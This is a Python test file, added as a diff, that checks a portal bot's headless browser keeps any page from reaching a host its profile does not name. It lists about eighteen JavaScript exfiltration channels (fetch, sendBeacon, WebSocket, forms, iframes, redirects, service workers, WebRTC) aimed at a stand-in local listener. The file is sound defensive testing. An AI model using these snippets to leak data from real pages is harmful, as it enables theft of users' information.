@@ -1,0 +1,184 @@
+"""A page may try what it likes: nothing of it arrives at a host that the profile does not name."""
+
+from __future__ import annotations
+
+import asyncio
+import socket
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from door import PASSWORD, USER, Door, door_profile, opened
+
+from billing.ledger import open_ledger
+from bots.portal.browser import Browser
+from bots.portal.session import PortalSession
+from flows.login_book import AccountBook
+
+SECRETS = {"username": USER, "password": PASSWORD}
+TRIES_SECONDS = 15
+
+
+class Elsewhere:
+    """Another host that answers everything and counts it, by TCP connection and by datagram."""
+
+    def __init__(self) -> None:
+        self.address = ""
+        self.port = 0
+        self.arrived: list[str] = []
+
+
+@contextmanager
+def elsewhere() -> Iterator[Elsewhere]:
+    """The other host, answering."""
+    there = Elsewhere()
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            there.arrived.append(f"{self.command} {self.path}")
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Content-Length", "2")
+            self.end_headers()
+            self.wfile.write(b"ok")
+
+        do_POST = do_OPTIONS = do_CONNECT = do_GET
+
+        def log_message(self, *_: object) -> None:
+            return
+
+    class Server(ThreadingHTTPServer):
+        daemon_threads = True
+
+        def process_request(self, request: object, client_address: object) -> None:
+            there.arrived.append("a connection")
+            super().process_request(request, client_address)
+
+    server = Server(("127.0.0.1", 0), Handler)
+    there.port = server.server_address[1]
+    there.address = f"http://127.0.0.1:{there.port}"
+    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    datagrams.bind(("127.0.0.1", there.port))
+    datagrams.settimeout(0.2)
+    over = threading.Event()
+
+    def listen() -> None:
+        while not over.is_set():
+            try:
+                datagrams.recv(2048)
+            except TimeoutError:
+                continue
+            there.arrived.append("a datagram")
+
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    listener = threading.Thread(target=listen, daemon=True)
+    listener.start()
+    try:
+        yield there
+    finally:
+        over.set()
+        listener.join(5)
+        datagrams.close()
+        server.shutdown()
+        server.server_close()
+
+
+# each leaves done() called when the page has tried; what it tried must not have arrived
+WAYS = {
+    "img": "const i = new Image(); i.onerror = i.onload = done; i.src = OTHER + '/img';",
+    "prefetch": (
+        "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = OTHER + '/pre';"
+        "document.head.append(l); setTimeout(done, 1500);"
+    ),
+    "preconnect": (
+        "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = OTHER;"
+        "document.head.append(l); setTimeout(done, 1500);"
+    ),
+    "fetch": "fetch(OTHER + '/fetch', {method: 'POST', body: 'x'}).then(done, done);",
+    "beacon": "navigator.sendBeacon(OTHER + '/beacon', 'x'); setTimeout(done, 1500);",
+    "script": (
+        "const s = document.createElement('script'); s.onerror = s.onload = done;"
+        "s.src = OTHER + '/script.js'; document.head.append(s);"
+    ),
+    "worker": (
+        "const w = new Worker(URL.createObjectURL(new Blob([`fetch('${OTHER}/worker')"
+        ".then(() => postMessage(1), () => postMessage(1))`]))); w.onmessage = done;"
+    ),
+    "socket": (
+        "const w = new WebSocket(OTHER.replace('http', 'ws') + '/socket');"
+        "w.onopen = w.onerror = w.onclose = done;"
+    ),
+    "events": "const e = new EventSource(OTHER + '/events'); e.onerror = e.onopen = done;",
+    "pop-up": "window.open(OTHER + '/popup'); setTimeout(done, 1500);",
+    "form": (
+        "const f = document.createElement('form'); f.method = 'post'; f.target = '_blank';"
+        "f.action = OTHER + '/form'; document.body.append(f); f.submit(); setTimeout(done, 1500);"
+    ),
+    "frame": (
+        "const f = document.createElement('iframe'); f.src = OTHER + '/frame';"
+        "document.body.append(f); setTimeout(done, 1500);"
+    ),
+    "redirect 302": "fetch('/away/302').then(done, done);",
+    "redirect 307": "fetch('/away/307', {method: 'POST', body: 'x'}).then(done, done);",
+    "redirected img": "const i = new Image(); i.onerror = i.onload = done; i.src = '/away/302';",
+    "redirected pop-up": "window.open('/away/302'); setTimeout(done, 1500);",
+    "service worker": (
+        "(navigator.serviceWorker ? navigator.serviceWorker.register('/away/worker.js')"
+        " : Promise.reject()).then(() => setTimeout(done, 1500), done);"
+    ),
+    "peer": (
+        "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + PORT}]});"
+        "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o));"
+        "setTimeout(done, 2500);"
+    ),
+}
+UNRECORDED = {"preconnect", "peer", "service worker"}  # no request of the page is made for them
+
+
+@pytest.mark.browser
+def test_nothing_of_a_page_arrives_at_another_host_and_what_is_asked_is_recorded(
+    browser_executable: Browser, tmp_path: Path
+) -> None:
+    door = Door()
+    recorded: dict[str, list[str]] = {}
+    arrived: dict[str, list[str]] = {}
+
+    async def try_all(there: Elsewhere) -> None:
+        book = AccountBook(open_ledger(tmp_path), "acme", 3)
+        profile = door_profile(may_post=["/", "/away/307"])
+        async with PortalSession(
+            profile, door.address, browser_executable, SECRETS.__getitem__, book
+        ) as session:
+            for name, script in WAYS.items():
+                page = await session.context.new_page()
+                await page.goto(f"{door.address}/inside")
+                session.guard.refused.clear()
+                there.arrived.clear()
+                body = script.replace("OTHER", f"'{there.address}'").replace(
+                    "PORT", str(there.port)
+                )
+                body = body.replace(f"${{'{there.address}'}}", there.address)
+                tried = f"() => new Promise(done => {{ {body} }})"
+                async with asyncio.timeout(TRIES_SECONDS):
+                    await page.evaluate(tried)
+                    # the browser tells of it a moment after the page was told
+                    while not session.guard.refused and name not in UNRECORDED:
+                        await asyncio.sleep(0.05)
+                recorded[name], arrived[name] = list(session.guard.refused), list(there.arrived)
+                await page.close()
+            page = await session.context.new_page()
+            session.guard.refused.clear()
+            there.arrived.clear()
+            with pytest.raises(Exception, match="net::ERR"):
+                await page.goto(f"{door.address}/away/302")
+            recorded["navigation"] = list(session.guard.refused)
+            arrived["navigation"] = list(there.arrived)
+
+    with elsewhere() as there, opened(door):
+        door.away = there.address
+        asyncio.run(try_all(there))
+    assert {name: what for name, what in arrived.items() if what} == {}
+    assert {name for name, what in recorded.items() if not what} <= UNRECORDED
